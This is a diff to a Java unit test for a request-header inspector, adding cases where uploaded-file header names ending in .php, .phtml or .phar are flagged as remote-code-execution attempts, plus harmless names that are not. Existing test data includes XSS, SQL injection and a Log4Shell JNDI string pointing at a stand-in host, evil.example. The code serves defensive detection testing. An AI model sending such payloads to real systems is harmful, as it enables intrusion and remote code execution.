@@ -71,9 +71,23 @@ class RequestHeadInspectionTest {
         "referer|https://x.example/<script>alert(1)</script>|attack.xss",
         "x-forwarded-for|1' OR '1'='1|attack.sqli",
         "authorization|Bearer ${jndi:ldap://evil.example/a}|attack.log4shell",
+        "x-filename|a.php|attack.rce",
+        "x-file-name|fthi/sfewfda.phtml......|attack.rce",
+        "x_filename|dangerous.phar|attack.rce",
     })
     void attacksInHeadersAreFoundUnderTheirName(String name, String value, String id) {
         assertEquals(List.of(id + "@header:" + name), found(inspect("/", name, value)));
+    }
+
+    @ParameterizedTest(name = "{0}: {1}")
+    @CsvSource(delimiter = '|', value = {
+        "x-filename|report.pdf",
+        "x-filename|index.php.txt",
+        "referer|https://shop.example/index.php",
+        "x-request-file|a.php",
+    })
+    void anUploadsEverydayNameOrAScriptNamedElsewhereReportsNothing(String name, String value) {
+        assertEquals(List.of(), found(inspect("/", name, value)));
     }
 
     @Test
